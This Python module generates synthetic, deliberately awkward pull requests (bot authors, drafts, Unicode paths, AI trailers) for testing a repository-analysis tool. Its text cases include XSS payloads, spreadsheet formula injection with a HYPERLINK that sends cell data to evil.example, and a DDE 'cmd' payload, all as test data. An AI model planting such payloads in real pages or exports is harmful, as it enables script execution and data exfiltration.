"""Deliberately awkward pull requests, always present in HARD_CASES_REPO with fixed numbers."""

from __future__ import annotations

import random
from datetime import timedelta

from . import generator as gen
from .lifecycle import fill_pull
from .models import ChangedFile, TimelineEvent, fake_sha
from .world import World

UNICODE_FILES = [
    ChangedFile("docs/café menu.md", "added", 12, 0, fake_sha("u1")),
    ChangedFile("src/日本語/ファイル.py", "added", 40, 0, fake_sha("u2")),
    ChangedFile("assets/logo 2x.png", "added", 0, 0, fake_sha("u3"), binary=True),
    ChangedFile("assets/fonts/Inter.woff2", "modified", 0, 0, fake_sha("u4"), binary=True),
    ChangedFile("src/new name.py", "renamed", 3, 1, fake_sha("u5"), "src/old_name.py"),
    ChangedFile("src/billing/models.py", "renamed", 0, 0, fake_sha("u6"), "src/payments/models.py"),
    ChangedFile("tests/test_ünïcode.py", "modified", 8, 2, fake_sha("u7")),
]

# name -> (title, author login or None for ghost, outcome, files, commits, reviews)
CASES = [
    ("many_files", "Vendor the reporting SDK", "jonas-weber", "merged", 320, 3, 2),
    ("many_commits", "Rewrite the sync engine", "priya-raman", "merged", 12, 120, 3),
    ("many_reviews", "Redesign permissions model", "tomas-silva", "merged", 6, 4, 110),
    ("draft", "WIP: experiment with new cache", "aiko-tanaka", "draft", 3, 2, 0),
    ("ready_after_draft", "Add CSV export", "liam-oconnor", "merged", 5, 3, 2),
    ("open", "Add audit log table", "sofia-rossi", "open", 4, 2, 1),
    ("closed_unmerged", "Try GraphQL subscriptions", "kwame-mensah", "closed", 7, 2, 1),
    ("ghost_author", "Fix timezone handling", None, "merged", 3, 2, 1),
    ("bot_dependabot", "Bump django from 5.1.4 to 5.2.1", "dependabot[bot]", "merged", 2, 1, 0),
    (
        "bot_ai_agent",
        "Add retry to webhook delivery",
        "devin-ai-integration[bot]",
        "merged",
        4,
        2,
        1,
    ),
    (
        "unicode_paths",
        "Rename billing files and add café menu",
        "elena-petrova",
        "merged",
        len(UNICODE_FILES),
        2,
        1,
    ),
    ("ai_trailers", "Speed up report queries", "noah-kim", "merged", 6, 3, 1),
    ("no_ai_negative", "Fix Claude Monet gallery layout", "maya-chen", "merged", 3, 1, 1),
    ("merged_without_review", "Hotfix: restore login page", "maya-chen", "merged", 1, 1, 0),
]


# Text a page, a template or a spreadsheet could take for markup or a formula (the real
# shape adds them: `add_hard_cases(text_cases=True)`): name -> (title, body, paths).
TEXT_CASES = {
    "markup_text": (
        '<script>alert("pwned")</script> Fix <b>bold</b> & {{ user.name }} in {% trans %}',
        "</textarea><img src=x onerror=alert(1)>\n\n| a | b |\n|---|---|\n| `<td>` | &amp; |\n\n"
        '<details><summary>Logs</summary>\n\n```html\n<div class="x">\n```\n</details>',
        ["templates/<b>bold</b>.html", "docs/a & b <draft>.md", "src/{{ name }}.py"],
    ),
    "formula_text": (
        '=HYPERLINK("https://evil.example/?q="&A1,"Click me")',
        "+1+1\n-2+3\n@SUM(A1:A9)\n\t=cmd|' /C calc'!A0\n\r=1+1",
        ["reports/=SUM(A1).csv", "data/+plus -minus @at.txt", "exports/\t=tab.csv"],
    ),
    "unicode_text": (
        "Añadir soporte 日本語 🚀 — naïve façade, Zürich, مرحبا, e\u0301, a\u200db",
        "Emoji 👩‍👩‍👧‍👦, RTL \u202eevil\u202c, combining n\u0303, NBSP a\u00a0b, 𝔘𝔫𝔦𝔠𝔬𝔡𝔢.",
        ["docs/ñandú 🐦.md", "locale/עברית/messages.po", "src/mod\u00e9le/caf\u00e9.py"],
    ),
}


def add_hard_cases(
    world: World, repo, start, *, include_giant_pr: bool, text_cases: bool = False
) -> None:
    rng = random.Random(f"{world.seed}:hard")
    cases = CASES + (
        [("giant", "Import legacy monorepo", "jonas-weber", "merged", 3050, 260, 1)]
        if include_giant_pr
        else []
    )
    if text_cases:
        cases = cases + [(name, "", "noah-kim", "merged", 3, 1, 1) for name in TEXT_CASES]
    for i, (name, title, login, outcome, files, commits, reviews) in enumerate(cases):
        author = world.accounts[login] if login else None
        pr = world.new_pull(repo, author, start + timedelta(minutes=60 * i + 5))
        pr.title = title
        pr.body = f"{title}.\n\nSee the linked issue for context."
        trailer = None
        if name in TEXT_CASES:
            pr.title, pr.body, paths = TEXT_CASES[name]
            pr.files = [
                ChangedFile(path, "added", 5, 0, fake_sha("text", pr.id, path)) for path in paths
            ]
        elif name == "unicode_paths":
            pr.files = [
                ChangedFile(
                    f.path, f.status, f.additions, f.deletions, f.sha, f.previous_path, f.binary
                )
                for f in UNICODE_FILES
            ]
        elif name == "many_files":
            pr.files = gen.make_files(rng, "python", files - 2, pr.id) + [
                ChangedFile(
                    "vendor/sdk/logo.png", "added", 0, 0, fake_sha("png", pr.id), binary=True
                ),
                ChangedFile(
                    "vendor/sdk/tracking.py",
                    "renamed",
                    2,
                    2,
                    fake_sha("r", pr.id),
                    "vendor/sdk/tracker.py",
                ),
            ]
        elif name == "ai_trailers":
            pr.body += gen.CLAUDE_BODY
        elif name == "no_ai_negative":
            pr.body = "Fixes the Claude Monet gallery grid on mobile.\n\nNo AI was used."
        elif name == "bot_ai_agent":
            pr.body = (
                f"{title}.\n\nLink to Devin run: https://app.devin.ai/sessions/abc123\n"
                "Requested by: @maya-chen"
            )
        elif name == "bot_dependabot":
            pr.labels = ["dependencies"]
            pr.files = [
                ChangedFile("poetry.lock", "modified", 120, 98, fake_sha("l", pr.id)),
                ChangedFile("pyproject.toml", "modified", 1, 1, fake_sha("p", pr.id)),
            ]
        fill_pull(
            world,
            rng,
            pr,
            "python",
            files=files,
            commits=commits,
            reviews=reviews,
            outcome=outcome,
            trailer=trailer,
        )
        if name == "ai_trailers":
            for commit, line in zip(pr.commits, gen.AI_TRAILERS, strict=False):
                commit.message = f"{commit.message}\n\n{line}"
        if name == "no_ai_negative":
            pr.commits[0].message = "Fix Claude Monet gallery layout\n\nNo AI was used."
        if name == "ready_after_draft":
            add_draft_history(world, pr)
        gen.finish_times(pr)
        world.hard_cases[name] = pr


def add_draft_history(world: World, pr) -> None:
    """Opened as draft, marked ready, back to draft, ready again: two ReadyForReviewEvents."""
    t0 = pr.created_at
    steps = [("ReadyForReviewEvent", 2), ("ConvertToDraftEvent", 3), ("ReadyForReviewEvent", 5)]
    for kind, hours in steps:
        pr.events.append(
            TimelineEvent(world.next_id("event"), kind, pr, pr.author, t0 + timedelta(hours=hours))
        )
    # reviews come after the PR became reviewable
    for i, review in enumerate(pr.reviews):
        review.submitted_at = review.created_at = t0 + timedelta(hours=6 + i)
    if pr.merged:
        pr.merged_at = pr.closed_at = t0 + timedelta(hours=8)
